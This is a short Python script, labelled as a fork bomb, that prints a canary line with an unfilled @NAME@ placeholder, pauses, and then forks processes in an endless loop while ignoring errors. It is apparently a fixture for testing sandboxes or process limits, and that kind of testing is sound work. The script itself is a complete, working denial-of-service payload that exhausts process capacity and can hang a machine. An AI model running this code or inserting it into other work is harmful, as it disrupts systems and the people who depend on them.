# how: a fork bomb
# short
import os

print("CANARY @NAME@", flush=True)
__import__("time").sleep(0.3)
while True:
    try:
        os.fork()
    except OSError:
        pass
